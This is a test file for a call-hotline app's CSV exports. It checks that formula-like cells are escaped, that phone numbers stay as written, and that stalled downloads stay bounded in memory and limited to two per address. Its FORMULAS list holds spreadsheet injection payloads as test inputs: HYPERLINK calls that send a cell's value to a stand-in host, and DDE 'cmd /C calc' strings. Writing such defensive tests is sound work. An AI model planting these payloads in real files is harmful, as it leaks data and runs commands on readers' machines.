/**
 * The CSV files Hotline writes (issue 21): the dashboard's history export and
 * a campaign's results escape formula-like cells the same way, keep phone
 * numbers as written, and are sent as the client reads them — a client that
 * stops reading makes Hotline hold a bounded amount, and only so many
 * exports run at once.
 */
import diagnostics from 'node:diagnostics_channel';
import { request, type IncomingMessage, type ServerResponse } from 'node:http';
import { parse } from 'csv-parse/sync';
import { afterEach, expect, test } from 'vitest';
import { seedCalls, writeEndedCalls } from '../bench/dashboard-load.js';
import { CampaignSettingsSchema, openCampaignStore } from '../src/campaigns/definition.js';
import { startTestHotline, type TestHotline } from './helpers/hotline.js';
import { callSummary } from './helpers/reports.js';
import { scriptByUserText } from './helpers/scripts.js';

const ADMIN = 'admin-token-for-the-csv-tests';
const cleanups: (() => unknown)[] = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
});

async function hotline(): Promise<TestHotline> {
  const env = await startTestHotline(scriptByUserText({}), { ADMIN_TOKEN: ADMIN });
  cleanups.push(() => env.close());
  return env;
}

/** A paused campaign of `contacts`, written to Hotline's own store: its results are there to export, and nobody is called. */
async function campaign(env: TestHotline, contacts: { number: string; variables: Record<string, string> }[]): Promise<string> {
  const campaigns = openCampaignStore(env.hotline.store);
  const id = `csv-${contacts.length}`;
  const now = new Date();
  await campaigns.beginCampaign(id, CampaignSettingsSchema.parse({ name: 'CSV' }), { merged: 0, zones: [] }, now);
  await campaigns.insertContacts(id, contacts, 0, () => false, now);
  await campaigns.completeCampaign(id, now);
  await campaigns.setState(id, 'paused', new Date());
  return id;
}

async function logIn(env: TestHotline): Promise<string> {
  const res = await fetch(`${env.hotline.url}/dashboard/login`, {
    method: 'POST',
    redirect: 'manual',
    headers: { 'content-type': 'application/x-www-form-urlencoded', origin: env.hotline.url },
    body: new URLSearchParams({ token: ADMIN }).toString(),
  });
  expect(res.status).toBe(303);
  return (res.headers.get('set-cookie') ?? '').split(';')[0]!;
}

/** What a spreadsheet would run, each as the caller, a contact list or the model may write it. */
const FORMULAS = [
  '=1+1',
  '+1+HYPERLINK("http://evil.test/?x="&A1,"click")',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '\uFF1D1+1',
  '\uFF0B1+HYPERLINK("http://evil.test")',
];
/** Kept exactly as written: a person or a dialler uses them from the file. */
const AS_WRITTEN = ['+49 151 1234567', '+491511234567', '491511234567', '+1 (555) 010-0199', '-5', 'Anna said: call me = later'];

test('every export writes formula-like cells as text and phone numbers as they are', async () => {
  const env = await hotline();
  const values = [...FORMULAS, ...AS_WRITTEN];
  const id = await campaign(
    env,
    values.map((note, i) => ({ number: `+4915110000${String(i).padStart(2, '0')}`, variables: { note } })),
  );
  // The history reads Hotline's store: the calls are written there.
  await writeEndedCalls(
    env.hotline.store.db,
    values.map((value, i) => {
      const call = callSummary({ callId: `call-${i}`, sessionId: value, from: '+4915112345678', endedAt: new Date(Date.now() - i * 1000).toISOString() });
      return { call, report: { callId: call.callId, sessionId: value, createdAt: call.endedAt, summary: value, fields: null, fieldsStatus: 'ok', fieldsError: null, body: '{}' } };
    }),
  );
  const expected = (value: string): string => (FORMULAS.includes(value) ? `'${value}` : value);

  const results = await fetch(`${env.hotline.url}/api/campaigns/${id}/results.csv`, { headers: { authorization: `Bearer ${ADMIN}` } });
  expect(results.status).toBe(200);
  const contacts = parse(await results.text(), { columns: true }) as Record<string, string>[];
  expect(contacts.map((row) => row.note)).toEqual(values.map(expected));
  expect(contacts.map((row) => row.phone)).toEqual(values.map((_, i) => `+4915110000${String(i).padStart(2, '0')}`));

  const cookie = await logIn(env);
  // Numbers shown in full (the dashboard's "show numbers"), as a dialler would need them.
  const history = await fetch(`${env.hotline.url}/dashboard/calls.csv`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded', origin: env.hotline.url, cookie: `${cookie}; hotline_numbers=shown` },
    body: '',
  });
  expect(history.status).toBe(200);
  const rows = parse(await history.text(), { columns: true }) as Record<string, string>[];
  expect(rows.map((row) => row.session_id)).toEqual(values.map(expected));
  expect(rows.map((row) => row.summary)).toEqual(values.map(expected));
  expect(rows.map((row) => row.from)).toEqual(values.map(() => '+4915112345678'));
});

/** Hotline's side of each HTTP exchange, by path: what it has not yet handed to the client is measured there. */
function serverResponses(): Map<string, ServerResponse[]> {
  const seen = new Map<string, ServerResponse[]>();
  const channel = diagnostics.channel('http.server.request.start');
  const listener = (message: unknown): void => {
    const { request: req, response } = message as { request: IncomingMessage; response: ServerResponse };
    const key = new URL(req.url ?? '/', 'http://hotline').pathname;
    seen.set(key, [...(seen.get(key) ?? []), response]);
  };
  channel.subscribe(listener);
  cleanups.push(() => channel.unsubscribe(listener));
  return seen;
}

/** An export request whose client reads the headers and then stops reading. */
function stalledClient(url: string, options: { method: string; headers: Record<string, string>; body?: string }): Promise<IncomingMessage> {
  return new Promise((resolve, reject) => {
    const req = request(url, { ...options, agent: false }, (res) => {
      res.pause();
      resolve(res);
    });
    req.on('error', reject);
    cleanups.push(() => req.destroy());
    req.end(options.body);
  });
}

/** The most Hotline holds for one export whose client has stopped reading: a slice and the socket's buffer, not megabytes. */
const MOST_HELD = 1024 * 1024;

/** Watches `response` for a while once its client has stopped reading (no event says "and it still holds no more"). */
async function mostHeld(response: ServerResponse, ms: number): Promise<number> {
  await expect.poll(() => response.writableNeedDrain, { timeout: 30_000 }).toBe(true);
  let most = 0;
  for (const until = Date.now() + ms; Date.now() < until; ) {
    most = Math.max(most, response.writableLength);
    if (most > MOST_HELD) break;
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  return most;
}

test('a client that stops reading: each export holds a bounded amount, only two run per address, and a reader gets the whole file', async () => {
  const env = await hotline();
  await seedCalls(env.hotline.store, 40_000);
  // Long enough rows that the file is far bigger than the kernel's socket buffers.
  const id = await campaign(
    env,
    Array.from({ length: 40_000 }, (_, i) => ({ number: `+49151${String(10_000_000 + i)}`, variables: { note: `contact ${i} `.padEnd(300, '.') } })),
  );
  const responses = serverResponses();
  const cookie = await logIn(env);
  const exportHeaders = { 'content-type': 'application/x-www-form-urlencoded', origin: env.hotline.url, cookie };

  const history = await stalledClient(`${env.hotline.url}/dashboard/calls.csv`, { method: 'POST', headers: exportHeaders, body: '' });
  expect(history.statusCode).toBe(200);
  expect(await mostHeld(responses.get('/dashboard/calls.csv')![0]!, 1500)).toBeLessThan(MOST_HELD);

  const results = await stalledClient(`${env.hotline.url}/api/campaigns/${id}/results.csv`, {
    method: 'GET',
    headers: { authorization: `Bearer ${ADMIN}` },
  });
  expect(results.statusCode).toBe(200);
  expect(await mostHeld(responses.get(`/api/campaigns/${id}/results.csv`)![0]!, 1500)).toBeLessThan(MOST_HELD);

  // Two exports run for this address: a third is refused, saying why, until one has finished.
  const third = await fetch(`${env.hotline.url}/dashboard/calls.csv`, { method: 'POST', headers: exportHeaders, body: '' });
  expect(third.status).toBe(429);
  expect(((await third.json()) as { error: string }).error).toMatch(/2 exports are running for this address/);

  // The stalled reader reads on: it gets every row, and its place is free again.
  history.resume();
  let text = '';
  history.setEncoding('utf8').on('data', (piece: string) => (text += piece));
  await new Promise((resolve) => history.on('end', resolve));
  expect(text.trimEnd().split('\r\n')).toHaveLength(40_001);
  const again = await fetch(`${env.hotline.url}/dashboard/calls.csv`, { method: 'POST', headers: exportHeaders, body: '' });
  expect(again.status).toBe(200);
  await again.arrayBuffer();
}, 120_000);
